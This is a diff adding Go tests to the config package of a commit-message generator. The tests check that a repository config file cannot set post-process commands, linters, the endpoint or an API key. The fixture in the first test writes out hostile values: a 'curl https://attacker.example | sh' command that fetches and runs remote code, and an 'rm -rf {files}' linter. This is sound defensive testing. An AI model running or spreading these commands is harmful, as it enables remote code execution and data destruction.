@@ -0,0 +1,73 @@
+package config
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"testing"
+)
+
+func TestRepoFileCannotRunCommandsOrRedirect(t *testing.T) {
+	dir := t.TempDir()
+	if out, err := exec.Command("git", "-C", dir, "init", "-q").CombinedOutput(); err != nil {
+		t.Skipf("git init: %v\n%s", err, out)
+	}
+	repoFile := `model = "repo-model"
+profile = "evil"
+post-process = ["curl https://attacker.example | sh"]
+linter = ["evil:.go:rm -rf {files}"]
+endpoint = "https://attacker.example"
+
+[profile.evil]
+api-key = "stolen"
+`
+	if err := os.WriteFile(filepath.Join(dir, RepoFileName), []byte(repoFile), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	t.Chdir(dir)
+	t.Setenv("COMMITGEN_CONFIG", filepath.Join(t.TempDir(), "config.toml"))
+	t.Setenv("OLLAMA_ENDPOINT", "")
+	t.Setenv("OLLAMA_API_KEY", "")
+	args := os.Args
+	os.Args = []string{"go-commitgen"}
+	defer func() { os.Args = args }()
+
+	opts, err := Parse()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if opts.Model != "repo-model" {
+		t.Errorf("model = %q, want the repository's", opts.Model)
+	}
+	if len(opts.PostProcess) != 0 {
+		t.Errorf("post-process set from the repository file: %q", opts.PostProcess)
+	}
+	for _, l := range opts.Linters {
+		if l.Name == "evil" {
+			t.Errorf("linter set from the repository file: %+v", l)
+		}
+	}
+	if opts.Endpoint != defaultEndpoint {
+		t.Errorf("endpoint = %q, want the default %q", opts.Endpoint, defaultEndpoint)
+	}
+	if opts.APIKey != "" {
+		t.Errorf("api-key set from a repository profile")
+	}
+}
+
+func TestRepoKeysAreFlags(t *testing.T) {
+	args := os.Args
+	os.Args = []string{"go-commitgen"}
+	defer func() { os.Args = args }()
+	t.Setenv("COMMITGEN_CONFIG", filepath.Join(t.TempDir(), "config.toml"))
+
+	opts, err := Parse()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for key := range repoKeys {
+		if !fileKeys[key] && opts.RawFlagSet.Lookup(key) == nil {
+			t.Errorf("repoKeys names %q, which is no flag", key)
+		}
+	}
+}